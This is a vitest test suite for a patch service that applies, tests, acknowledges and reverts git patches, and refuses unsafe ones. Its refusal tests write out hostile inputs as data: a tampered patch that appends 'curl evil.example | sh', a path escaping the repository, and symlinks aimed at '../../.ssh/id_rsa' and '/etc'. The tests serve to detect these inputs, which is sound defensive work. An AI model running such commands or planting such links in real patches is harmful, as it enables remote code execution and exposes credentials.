/**
 * Applying patches on real temporary git repositories, end to end through the patch service:
 * check, apply, tests, ack with evidence, revert, and every refusal.
 */
import { existsSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, describe, expect, it } from 'vitest'
import { makePatch, patchWorld, OPERATOR, type PatchWorld } from '../../../test/helpers/patch-setup'
import { gitApply } from '../git/apply'
import { headInfo } from '../git/worktree'
import { PATCH_WARNING_CRLF, PATCH_WARNING_NO_TRAILING_NEWLINE } from '../hub/values/validate'
import { sha256Hex } from '../hub'

let w: PatchWorld
afterEach(async () => {
  await w?.close()
})

const app = (world: PatchWorld): string => readFileSync(join(world.repo.dir, 'src/app.txt'), 'utf8')

describe('apply', () => {
  it('clean patch + passing tests: applied, test output pushed live, ack applied with the evidence, audited', async () => {
    w = await patchWorld()
    const patch = await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n', 'docs/new/notes.md': '# notes\n' })
    const id = await w.submit(patch)
    const pre = await w.patches.preflight({ palace: w.palace }, id)
    expect(pre).toMatchObject({ project: 'demo', can_apply: true, test_command: null })
    expect(pre.project_reason).toContain('stream project/demo')

    const { run, done } = await w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: 'sh test.sh' })
    expect(run.outcome).toBe('running')
    const end = await done
    expect(end).toMatchObject({ outcome: 'applied', applied: true, phase: 'done', revertable: false, ack_error: null })
    expect(end.check).toMatchObject({ ok: true, code: 0 })
    expect(end.test).toMatchObject({ command: 'sh test.sh', status: 'passed', exit_code: 0 })
    expect(app(w)).toBe('alpha\nBETA\ngamma\ndelta\n')
    expect(readFileSync(join(w.repo.dir, 'docs/new/notes.md'), 'utf8')).toBe('# notes\n')

    const [ack] = await w.acksOf(id)
    expect(ack).toMatchObject({ id: end.ack_event_id, status: 'applied', from_agent: OPERATOR, to_agent: 'win-codex' })
    expect(ack!.body).toContain('Checking patch src/app.txt...')
    expect(ack!.body).toContain('ok 1 - beta is loud')
    expect(ack!.body).toContain(`resulting HEAD: ${w.base.slice(0, 12)}`)
    expect(ack!.body).toContain(`sha256 ${sha256Hex(patch)} verified`)

    // each pushed copy of the run is a newer revision than the one before (the screen keeps the newest)
    const revisions = w.pushed.filter((e) => e.name === 'patch.run').map((e) => (e.payload as { revision: number }).revision)
    expect(revisions.length).toBeGreaterThan(3)
    expect(revisions.every((r, i) => i === 0 || r > revisions[i - 1]!)).toBe(true)
    const output = w.pushed
      .filter((e) => e.name === 'patch.output')
      .map((e) => (e.payload as { text: string }).text)
      .join('')
    expect(output).toContain('checking src/app.txt\nok 1 - beta is loud\n')
    const audit = w.patches.audit({ palace: w.palace }, { event_id: id }).entries
    expect(audit.map((a) => `${a.action}:${a.outcome}`)).toEqual(['verify:ok', 'apply:applied', 'test:passed', 'ack:applied'])
  })

  it('conflict: git apply --check fails, ack failed with its output, repository untouched', async () => {
    w = await patchWorld()
    const id = await w.submit(await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' }))
    await w.repo.commit('someone else changed beta', { 'src/app.txt': 'alpha\nbeta?\ngamma\ndelta\n' })
    const before = await w.status()
    const end = await (await w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: 'sh test.sh' })).done
    expect(end).toMatchObject({ outcome: 'failed', applied: false, test: null, revertable: false })
    expect(end.check!.ok).toBe(false)
    expect(end.check!.output).toContain('patch does not apply')
    expect(app(w)).toBe('alpha\nbeta?\ngamma\ndelta\n')
    expect(await w.status()).toBe(before)
    const [ack] = await w.acksOf(id)
    expect(ack!.status).toBe('failed')
    expect(ack!.body).toContain('error: src/app.txt: patch does not apply')
    expect(ack!.body).toContain('the repository is untouched')
    await expect(w.patches.revert(end.id)).rejects.toThrow(/applied nothing/)
  })

  it('failing tests: ack failed with the test tail; the revert restores the worktree exactly', async () => {
    w = await patchWorld()
    const patch = await makePatch(w.repo, {
      'src/app.txt': 'alpha\nbeta, but louder\ngamma\ndelta\n',
      'src/keep.txt': null,
      'new/deep/dir/file.txt': 'x\n'
    })
    const id = await w.submit(patch)
    const end = await (await w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: 'sh test.sh' })).done
    expect(end).toMatchObject({ outcome: 'failed', applied: true, revertable: true })
    expect(end.test).toMatchObject({ status: 'failed', exit_code: 1 })
    const [ack] = await w.acksOf(id)
    expect(ack!.status).toBe('failed')
    expect(ack!.body).toContain('not ok 1 - beta is quiet')
    expect(ack!.body).toContain('sh test.sh: FAILED, exit 1')
    expect(existsSync(join(w.repo.dir, 'src/keep.txt'))).toBe(false)

    const r = await w.patches.revert(end.id)
    expect(r.restored.sort()).toEqual(['new/deep/dir/file.txt', 'src/app.txt', 'src/keep.txt'])
    expect(r.untouched).toEqual([])
    expect(await w.status()).toBe('')
    expect(app(w)).toBe('alpha\nbeta\ngamma\ndelta\n')
    expect(readFileSync(join(w.repo.dir, 'src/keep.txt'), 'utf8')).toBe('untouched\n')
    expect(existsSync(join(w.repo.dir, 'new'))).toBe(false)
    expect(r.run).toMatchObject({ revertable: false })
    await expect(w.patches.revert(end.id)).rejects.toThrow(/already reverted/)
    const audit = w.patches.audit({ palace: w.palace }, { event_id: id }).entries.map((a) => `${a.action}:${a.outcome}`)
    expect(audit).toEqual(['verify:ok', 'apply:applied', 'test:failed', 'ack:failed', 'revert:reverted'])
  })

  it('a revert never overwrites a change made after the apply', async () => {
    w = await patchWorld()
    const id = await w.submit(await makePatch(w.repo, { 'src/app.txt': 'alpha\nbeta 2\ngamma\ndelta\n' }))
    const end = await (await w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: 'exit 4' })).done
    writeFileSync(join(w.repo.dir, 'src/app.txt'), 'hand edit\n')
    await expect(w.patches.revert(end.id)).rejects.toThrow('revert refused: src/app.txt changed since the apply')
    expect(app(w)).toBe('hand edit\n')
  })

  it('a second apply of the same patch is refused, and so is one acked applied by someone else', async () => {
    w = await patchWorld()
    const id = await w.submit(await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' }))
    await (
      await w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: null })
    ).done
    await w.repo.commit('take it')
    await expect(w.patches.start({ palace: w.palace }, { id, project: 'demo' })).rejects.toMatchObject({
      code: 'conflict',
      message: expect.stringContaining('already applied')
    })

    const other = await w.submit(await makePatch(w.repo, { 'src/keep.txt': 'changed\n' }))
    await w.hubs.ack({ palace: w.palace, event_id: other, from_agent: 'mac-claude', status: 'applied', body: 'applied by hand' })
    await expect(w.patches.start({ palace: w.palace }, { id: other, project: 'demo' })).rejects.toThrow(
      /already applied.*acked applied by mac-claude/
    )
    const audit = w.patches.audit({ palace: w.palace }, { event_id: other }).entries
    expect(audit.at(-1)).toMatchObject({ action: 'refuse', outcome: 'refused' })
    expect(await w.status()).toBe('')
  })

  it('two applies started at once: one runs, the other is refused', async () => {
    w = await patchWorld()
    const id = await w.submit(await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' }))
    const results = await Promise.allSettled([
      w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: 'sleep 0.3' }),
      w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: 'sleep 0.3' })
    ])
    const ok = results.filter((r) => r.status === 'fulfilled')
    expect(ok).toHaveLength(1)
    expect((results.find((r) => r.status === 'rejected') as PromiseRejectedResult).reason.message).toMatch(/still running|already applied/)
    await (ok[0] as PromiseFulfilledResult<{ done: Promise<unknown> }>).value.done
    expect((await w.acksOf(id)).map((a) => a.status)).toEqual(['applied'])
  })

  it('a dirty worktree refuses the apply unless allowed; then the revert leaves the earlier change alone', async () => {
    w = await patchWorld()
    const id = await w.submit(await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' }))
    writeFileSync(join(w.repo.dir, 'src/keep.txt'), 'my local change\n')
    writeFileSync(join(w.repo.dir, 'scratch.txt'), 'notes\n')
    await expect(w.patches.start({ palace: w.palace }, { id, project: 'demo' })).rejects.toThrow(
      /dirty worktree \(2 changes: M src\/keep.txt, \?\? scratch.txt/
    )
    const end = await (await w.patches.start({ palace: w.palace }, { id, project: 'demo', allow_dirty: true, test_command: 'false' })).done
    expect(end.outcome).toBe('failed')
    const r = await w.patches.revert(end.id)
    expect(r.untouched.sort()).toEqual(['scratch.txt', 'src/keep.txt'])
    expect(readFileSync(join(w.repo.dir, 'src/keep.txt'), 'utf8')).toBe('my local change\n')
    expect(app(w)).toBe('alpha\nbeta\ngamma\ndelta\n')
  })

  it('tests that hang are stopped at the timeout; a cancelled run acks failed', async () => {
    w = await patchWorld()
    const id = await w.submit(await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' }))
    const end = await (
      await w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: 'echo start; sleep 30', test_timeout_ms: 1000 })
    ).done
    expect(end.test).toMatchObject({ status: 'timed-out' })
    expect(end.test!.tail).toContain('start')
    expect(end.reason).toBe('tests timed out after 1 s')
    await w.patches.revert(end.id)

    const again = await w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: 'echo waiting; sleep 30' })
    for (let i = 0; i < 100 && w.patches.run(again.run.id).phase !== 'testing'; i++) await new Promise((r) => setTimeout(r, 50))
    await new Promise((r) => setTimeout(r, 200))
    w.patches.cancel(again.run.id)
    const cancelled = await again.done
    expect(cancelled.test!.status).toBe('cancelled')
    expect((await w.acksOf(id)).map((a) => a.status)).toEqual(['failed', 'failed'])
    expect((await w.acksOf(id))[1]!.body).toContain('cancelled by the operator')
  })
})

describe('patches git reads differently than it looks', () => {
  it('CRLF patch of a CRLF file: flagged, applied exactly as git does, bytes kept', async () => {
    w = await patchWorld()
    await w.repo.commit('windows file', { 'win.txt': 'one\r\ntwo\r\nthree\r\n' })
    const patch = await makePatch(w.repo, { 'win.txt': 'one\r\nTWO\r\nthree\r\n' })
    expect(patch).toContain('\r')
    const id = await w.submit(patch)
    const v = (await w.patches.verify({ palace: w.palace }, id)).verification
    expect(v.warnings).toEqual([PATCH_WARNING_CRLF])
    expect(v.verdict).toBe('warnings')
    const end = await (await w.patches.start({ palace: w.palace }, { id, project: 'demo', test_command: null })).done
    expect(end.outcome).toBe('applied')
    expect(readFileSync(join(w.repo.dir, 'win.txt'), 'utf8')).toBe('one\r\nTWO\r\nthree\r\n')
  })

  it('a patch whose line endings were converted to CRLF: flagged, and refused by git apply --check just like git itself', async () => {
    w = await patchWorld()
    const patch = (await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' })).replace(/\n/g, '\r\n')
    const direct = await gitApply(w.repo.dir, Buffer.from(patch), { check: true })
    const id = await w.submit(patch)
    expect((await w.patches.verify({ palace: w.palace }, id)).verification.warnings).toEqual([PATCH_WARNING_CRLF])
    const end = await (await w.patches.start({ palace: w.palace }, { id, project: 'demo' })).done
    expect(end.check).toMatchObject({ ok: direct.ok, code: direct.code, output: direct.output })
    expect(end.outcome).toBe(direct.ok ? 'applied' : 'failed')
  })

  it('a patch without its final newline: flagged, and git calls it corrupt', async () => {
    w = await patchWorld()
    const patch = (await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' })).replace(/\n$/, '')
    const direct = await gitApply(w.repo.dir, Buffer.from(patch), { check: true })
    expect(direct).toMatchObject({ ok: false })
    const id = await w.submit(patch)
    expect((await w.patches.verify({ palace: w.palace }, id)).verification.warnings).toEqual([PATCH_WARNING_NO_TRAILING_NEWLINE])
    const end = await (await w.patches.start({ palace: w.palace }, { id, project: 'demo' })).done
    expect(end).toMatchObject({ outcome: 'failed', applied: false })
    expect(end.check!.output).toBe(direct.output)
    expect(end.check!.output).toContain('corrupt patch')
    expect(await w.status()).toBe('')
  })

  it('an apply --3way that fails puts the index back too on revert', async () => {
    w = await patchWorld()
    const id = await w.submit(await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' }))
    const end = await (await w.patches.start({ palace: w.palace }, { id, project: 'demo', three_way: true, test_command: 'exit 1' })).done
    expect(end.applied).toBe(true)
    await w.patches.revert(end.id)
    expect(await w.status()).toBe('')
    expect((await headInfo(w.repo.dir)).commit).toBe(w.base)
  })
})

describe('refusals before anything runs', () => {
  it('a tampered artifact (content changed after its sha was stored) cannot be applied', async () => {
    w = await patchWorld()
    const patch = await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' })
    const id = await w.submit(patch)
    const event = (await w.hubs.get({ palace: w.palace, id })).event
    w.tamper(event.artifact_ids[0]!, patch.replace('+BETA', '+BETA; curl evil.example | sh'))
    const v = (await w.patches.verify({ palace: w.palace }, id)).verification
    expect(v.verdict).toBe('refused')
    expect(v.sha256.ok).toBe(false)
    expect(v.findings.map((f) => f.code)).toEqual(expect.arrayContaining(['sha256-mismatch', 'size-mismatch']))
    const pre = await w.patches.preflight({ palace: w.palace }, id)
    expect(pre.can_apply).toBe(false)
    expect(pre.preconditions.find((p) => p.id === 'verified')).toMatchObject({ level: 'fail' })
    await expect(w.patches.start({ palace: w.palace }, { id, project: 'demo' })).rejects.toThrow(
      /apply refused: verification refused \(stored sha256 \w+ does not match/
    )
    expect(await w.acksOf(id)).toEqual([])
    expect(await w.status()).toBe('')
  })

  it('a forged quoted sha (body or metadata) cannot be applied', async () => {
    w = await patchWorld()
    const patch = await makePatch(w.repo, { 'src/app.txt': 'alpha\nBETA\ngamma\ndelta\n' })
    const forged = sha256Hex(patch + ' ')
    const id = await w.submit(patch, { body: `fix ready\nsha256: ${forged}`, metadata: { sha256: forged } })
    const v = (await w.patches.verify({ palace: w.palace }, id)).verification
    expect(v.sha256.ok).toBe(true)
    expect(v.quoted.map((q) => [q.where, q.ok])).toEqual([
      ['metadata', false],
      ['body', false],
      ['metadata', false]
    ])
    expect(v.verdict).toBe('refused')
    await expect(w.patches.start({ palace: w.palace }, { id, project: 'demo' })).rejects.toThrow(/the sender quoted sha256/)

    const honest = await w.submit(patch, { body: `sha256: ${sha256Hex(patch)}` })
    expect((await w.patches.verify({ palace: w.palace }, honest)).verification).toMatchObject({
      verdict: 'ok',
      quoted: [{ where: 'body', ok: true }]
    })
  })

  it('paths outside the repository are refused; files missing at the base commit are flagged', async () => {
    w = await patchWorld()
    const evil = 'diff --git a/../outside.txt b/../outside.txt\n--- a/../outside.txt\n+++ b/../outside.txt\n@@ -1 +1 @@\n-a\n+b\n'
    const id = await w.submit(evil)
    const v = (await w.patches.verify({ palace: w.palace }, id)).verification
    expect(v.findings.find((f) => f.code === 'path-outside-repo')).toMatchObject({ level: 'error', path: '../outside.txt' })
    await expect(w.patches.start({ palace: w.palace }, { id, project: 'demo' })).rejects.toThrow(/leaves the repository/)

    const ghost = 'diff --git a/src/ghost.txt b/src/ghost.txt\n--- a/src/ghost.txt\n+++ b/src/ghost.txt\n@@ -1 +1 @@\n-a\n+b\n'
    const g = (await w.patches.verify({ palace: w.palace }, await w.submit(ghost))).verification
    expect(g.findings).toContainEqual({
      code: 'missing-at-base',
      level: 'warning',
      message: `src/ghost.txt does not exist at the base commit ${w.base.slice(0, 12)}`,
      path: 'src/ghost.txt'
    })
    expect(g.checked_in).toBe('demo')

    // one git process answers both checks: a base that is no commit (unknown, or a file's blob) is flagged as unknown
    const blob = (await w.patches.verify({ palace: w.palace }, await w.submit(ghost, { base_commit: `${w.base}:src` }))).verification
    const gone = (await w.patches.verify({ palace: w.palace }, await w.submit(ghost, { base_commit: 'f'.repeat(40) }))).verification
    for (const v of [blob, gone]) {
      expect(v.findings.filter((f) => f.code === 'base-unknown')).toHaveLength(1)
      expect(v.findings.some((f) => f.code === 'missing-at-base')).toBe(false)
    }
  })

  it('symbolic links are reported: one leading outside the repository refuses the apply, one inside is a warning', async () => {
    w = await patchWorld()
    const link = (path: string, target: string) =>
      `diff --git a/${path} b/${path}\nnew file mode 120000\nindex 0000000..1111111\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${target}\n\\ No newline at end of file\n`
    const out = (await w.patches.verify({ palace: w.palace }, await w.submit(link('src/keys', '../../.ssh/id_rsa')))).verification
    expect(out.findings.find((f) => f.code === 'symlink')).toMatchObject({ level: 'error', path: 'src/keys' })
    expect(out.findings.find((f) => f.code === 'symlink')!.message).toMatch(/leads outside the repository/)
    const abs = (await w.patches.verify({ palace: w.palace }, await w.submit(link('etc', '/etc')))).verification
    expect(abs.findings.find((f) => f.code === 'symlink')).toMatchObject({ level: 'error', path: 'etc' })
    const inside = (await w.patches.verify({ palace: w.palace }, await w.submit(link('src/current', 'v2/main.ts')))).verification
    expect(inside.findings.find((f) => f.code === 'symlink')).toMatchObject({ level: 'warning', path: 'src/current' })
  })

  it("a project's test command changes only by its own audited call", async () => {
    w = await patchWorld()
    w.patches.setSettings('demo', 'sh test.sh', undefined, 'desk-muster')
    w.patches.setSettings('demo', 'sh test.sh') // no change: nothing audited
    w.patches.setSettings('demo', null, 60_000, 'desk-muster')
    expect(w.patches.settingsAudit('demo').map((a) => [a.action, a.actor, a.summary])).toEqual([
      ['settings', 'desk-muster', expect.stringMatching(/^test command null -> "sh test\.sh", timeout \d+ -> \d+ ms$/)],
      ['settings', 'desk-muster', expect.stringMatching(/^test command "sh test\.sh" -> null, timeout \d+ -> 60000 ms$/)]
    ])
  })
})
